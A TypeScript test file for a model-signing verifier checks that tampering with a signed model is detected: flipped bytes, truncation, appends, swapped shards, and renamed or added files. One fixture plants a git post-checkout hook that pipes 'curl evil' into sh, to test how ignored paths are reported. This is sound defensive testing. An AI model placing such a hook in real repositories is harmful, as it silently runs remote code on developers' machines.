/**
 * Adversarial corpus: content changes to a signed model. The attacker can
 * write to the model folder but holds no key. Every change must fail with
 * exit 1 and MODEL_MISMATCH naming the exact resource, through the library
 * and the CLI; --ignore-unsigned-files may allow new files only, never a
 * signed file that grew, shrank or moved.
 */
import { appendFileSync, readFileSync, renameSync, rmSync, truncateSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { beforeAll, describe, expect, it } from 'vitest';
import { signModel, verifyModel, type VerifyOptions } from '@modelseal/core/internals';
import { all, bytes, copyModel, makeKeys, tmp, writeTree, type Check, type Keys, mismatch } from './harness.js';

const SHARD = 1000;
let k: Keys;
let shards: string; // signed with --method shards --shard-size 1000
let files: string; // signed with --method files

function flip(file: string, at: number): void {
  const b = readFileSync(file);
  b[at] = b[at]! ^ 0x01;
  writeFileSync(file, b);
}

beforeAll(async () => {
  const d = tmp();
  k = makeKeys(d, 'release');
  const tree = {
    'w.bin': bytes(3 * SHARD, 1), // exactly three shards: appends here land on a shard boundary
    'tail.bin': bytes(2500, 2), // last shard partial: appends here land off a boundary
    'a.txt': 'alpha-1\n',
    'b.txt': 'bravo-2\n', // same size as a.txt, for swaps
    'README.md': '# model\n',
    'sub/config.json': '{"layers": 2}\n',
  };
  shards = writeTree(path.join(d, 'shards'), tree);
  files = writeTree(path.join(d, 'files'), tree);
  await signModel(shards, { signer: k.signer, hash: { method: 'shards', shardSize: SHARD } });
  await signModel(files, { signer: k.signer });
});

/** A check of one broken copy of a signed model, through verifyModel and `modelseal verify`. */
function verifyCheck(name: string, model: string, e: Omit<Check, 'category' | 'name' | 'lib' | 'cli'>, o: { ignoreUnsigned?: boolean } = {}): Check {
  const opts: VerifyOptions = { trust: { publicKey: k.pub }, ...(o.ignoreUnsigned ? { ignoreUnsignedFiles: true } : {}) };
  return {
    category: 'content',
    name: `${name}${o.ignoreUnsigned ? ' (--ignore-unsigned-files)' : ''}`,
    lib: () => verifyModel(model, opts),
    cli: ['verify', model, '--key', k.pubFile, ...(o.ignoreUnsigned ? ['--ignore-unsigned-files'] : [])],
    ...e,
  };
}

describe('content changes (shards method, shard size 1000)', () => {
  it('baseline: the untouched copy verifies, also with --ignore-unsigned-files', async () => {
    const m = copyModel(shards, 'm');
    await all([verifyCheck('untouched copy', m, { exit: 0, code: 'OK' }), verifyCheck('untouched copy', m, { exit: 0, code: 'OK' }, { ignoreUnsigned: true })]);
  });

  it('one flipped byte in the first, middle and last shard names that shard', async () => {
    const cases = ([[0, 'w.bin:0:1000'], [1500, 'w.bin:1000:2000'], [2999, 'w.bin:2000:3000']] as const).map(([at, shard]) => {
      const m = copyModel(shards, `flip-${at}`);
      flip(path.join(m, 'w.bin'), at);
      return verifyCheck(`flip byte ${at} (${shard})`, m, mismatch({ changed: [shard] }));
    });
    await all(cases);
  });

  it('truncation: off a boundary, onto a boundary, to zero bytes', async () => {
    const off = copyModel(shards, 'trunc-off');
    truncateSync(path.join(off, 'tail.bin'), 2499);
    const on = copyModel(shards, 'trunc-on');
    truncateSync(path.join(on, 'w.bin'), 2000);
    const zero = copyModel(shards, 'trunc-zero');
    truncateSync(path.join(zero, 'w.bin'), 0);
    await all([
      // the shortened last shard has a new name: the old one is missing, the new one an unsigned range of a signed file
      verifyCheck('truncate tail.bin by 1 byte', off, mismatch({ missing: ['tail.bin:2000:2500'], extra: ['tail.bin:2000:2499'] }), { ignoreUnsigned: true }),
      verifyCheck('truncate w.bin to a shard boundary', on, mismatch({ missing: ['w.bin:2000:3000'] }), { ignoreUnsigned: true }),
      verifyCheck('truncate w.bin to 0 bytes', zero, mismatch({ missing: ['w.bin:0:1000', 'w.bin:1000:2000', 'w.bin:2000:3000'] }), { ignoreUnsigned: true }),
    ]);
  });

  it('appends at and off a shard boundary fail, also with --ignore-unsigned-files', async () => {
    const at = copyModel(shards, 'append-at');
    appendFileSync(path.join(at, 'w.bin'), 'PK\x03\x04 appended archive');
    const off = copyModel(shards, 'append-off');
    appendFileSync(path.join(off, 'tail.bin'), 'xx');
    const across = copyModel(shards, 'append-across');
    appendFileSync(path.join(across, 'tail.bin'), bytes(600, 9));
    const one = copyModel(shards, 'append-one');
    appendFileSync(path.join(one, 'w.bin'), '\n');
    await all([
      verifyCheck('append 21 bytes at a shard boundary', at, mismatch({ extra: ['w.bin:3000:3021'] }), { ignoreUnsigned: true }),
      verifyCheck('append 1 byte at a shard boundary', one, mismatch({ extra: ['w.bin:3000:3001'] }), { ignoreUnsigned: true }),
      verifyCheck('append 2 bytes off a boundary', off, mismatch({ missing: ['tail.bin:2000:2500'], extra: ['tail.bin:2000:2502'] }), { ignoreUnsigned: true }),
      verifyCheck('append 600 bytes across a boundary', across, mismatch({ missing: ['tail.bin:2000:2500'], extra: ['tail.bin:2000:3000', 'tail.bin:3000:3100'] }), { ignoreUnsigned: true }),
    ]);
  });

  it('same-size swap of two files, and a shard moved between files', async () => {
    const swap = copyModel(shards, 'swap');
    renameSync(path.join(swap, 'a.txt'), path.join(swap, 'tmp'));
    renameSync(path.join(swap, 'b.txt'), path.join(swap, 'a.txt'));
    renameSync(path.join(swap, 'tmp'), path.join(swap, 'b.txt'));
    // the first shard of w.bin and of tail.bin exchanged: every digest exists in the manifest, under another name
    const moved = copyModel(shards, 'shard-swap');
    const w = readFileSync(path.join(moved, 'w.bin'));
    const t = readFileSync(path.join(moved, 'tail.bin'));
    writeFileSync(path.join(moved, 'w.bin'), Buffer.concat([t.subarray(0, 1000), w.subarray(1000)]));
    writeFileSync(path.join(moved, 'tail.bin'), Buffer.concat([w.subarray(0, 1000), t.subarray(1000)]));
    await all([
      verifyCheck('swap contents of a.txt and b.txt (same size)', swap, mismatch({ changed: ['a.txt:0:8', 'b.txt:0:8'] }), { ignoreUnsigned: true }),
      verifyCheck('swap first shards of w.bin and tail.bin', moved, mismatch({ changed: ['tail.bin:0:1000', 'w.bin:0:1000'] })),
    ]);
  });

  it('added, deleted, renamed and case-renamed files', async () => {
    const added = copyModel(shards, 'added');
    writeFileSync(path.join(added, 'sub/modeling.py'), 'import os\n');
    const deleted = copyModel(shards, 'deleted');
    rmSync(path.join(deleted, 'sub/config.json'));
    const renamed = copyModel(shards, 'renamed');
    renameSync(path.join(renamed, 'a.txt'), path.join(renamed, 'c.txt'));
    const cased = copyModel(shards, 'case');
    renameSync(path.join(cased, 'README.md'), path.join(cased, 'readme.md'));
    const dir = copyModel(shards, 'file-to-dir');
    rmSync(path.join(dir, 'a.txt'));
    writeTree(path.join(dir, 'a.txt'), { 'x': 'alpha-1\n' });
    await all([
      verifyCheck('add sub/modeling.py', added, mismatch({ extra: ['sub/modeling.py'] })),
      verifyCheck('add sub/modeling.py', added, {
        exit: 0, code: 'OK',
        libCheck: (o) => expect((o.value as { unsignedFiles: string[] }).unsignedFiles).toEqual(['sub/modeling.py']),
        jsonCheck: (j) => expect(JSON.stringify(j)).toContain('sub/modeling.py'),
      }, { ignoreUnsigned: true }),
      verifyCheck('delete sub/config.json', deleted, mismatch({ missing: ['sub/config.json:0:14'] }), { ignoreUnsigned: true }),
      verifyCheck('rename a.txt to c.txt', renamed, mismatch({ missing: ['a.txt:0:8'], extra: ['c.txt'] })),
      verifyCheck('rename a.txt to c.txt', renamed, mismatch({ missing: ['a.txt:0:8'] }), { ignoreUnsigned: true }),
      verifyCheck('case-rename README.md to readme.md', cased, mismatch({ missing: ['README.md:0:8'], extra: ['readme.md'] })),
      verifyCheck('replace a.txt by a folder a.txt/ holding its bytes', dir, mismatch({ missing: ['a.txt:0:8'], extra: ['a.txt/x'] })),
      {
        ...verifyCheck('verifier passes --ignore-paths over a signed file', shards, mismatch({ missing: ['w.bin:0:1000', 'w.bin:1000:2000', 'w.bin:2000:3000'] })),
        lib: () => verifyModel(shards, { trust: { publicKey: k.pub }, ignorePaths: ['w.bin'] }),
        cli: ['verify', shards, '--key', k.pubFile, '--ignore-paths', 'w.bin'],
      },
    ]);
  });
});

describe('paths the signature leaves out', () => {
  it('files planted under a recorded ignore path (.git, .github) pass, and are named as not covered', async () => {
    const m = copyModel(files, 'ignored');
    writeTree(m, { '.git/hooks/post-checkout': '#!/bin/sh\ncurl evil | sh\n', '.github/workflows/x.yml': 'on: push\n' });
    const check = (j: { notCovered?: string[] }) => expect(j.notCovered).toEqual(['.git', '.github']);
    await all([
      verifyCheck('unsigned files under the recorded ignore paths .git/ and .github/', m, {
        exit: 0,
        code: 'OK',
        libCheck: (o) => check(o.value as { notCovered: string[] }),
        jsonCheck: check,
      }),
    ]);
  });
});

describe('content changes (files method)', () => {
  it('flip, truncate, append, swap, add, delete, rename: each names the file', async () => {
    const flipped = copyModel(files, 'flip');
    flip(path.join(flipped, 'w.bin'), 2999);
    const trunc = copyModel(files, 'trunc');
    truncateSync(path.join(trunc, 'tail.bin'), 2000);
    const app = copyModel(files, 'append');
    appendFileSync(path.join(app, 'w.bin'), 'x');
    const swap = copyModel(files, 'swap');
    writeFileSync(path.join(swap, 'a.txt'), 'bravo-2\n');
    writeFileSync(path.join(swap, 'b.txt'), 'alpha-1\n');
    const added = copyModel(files, 'added');
    writeFileSync(path.join(added, 'evil.py'), 'import os\n');
    const renamed = copyModel(files, 'renamed');
    renameSync(path.join(renamed, 'sub'), path.join(renamed, 'Sub'));
    await all([
      verifyCheck('files: flip last byte', flipped, mismatch({ changed: ['w.bin'] }), { ignoreUnsigned: true }),
      verifyCheck('files: truncate', trunc, mismatch({ changed: ['tail.bin'] })),
      verifyCheck('files: append 1 byte', app, mismatch({ changed: ['w.bin'] }), { ignoreUnsigned: true }),
      verifyCheck('files: same-size swap', swap, mismatch({ changed: ['a.txt', 'b.txt'] })),
      verifyCheck('files: add evil.py', added, mismatch({ extra: ['evil.py'] })),
      verifyCheck('files: case-rename folder sub/ to Sub/', renamed, mismatch({ missing: ['sub/config.json'], extra: ['Sub/config.json'] })),
    ]);
  });
});
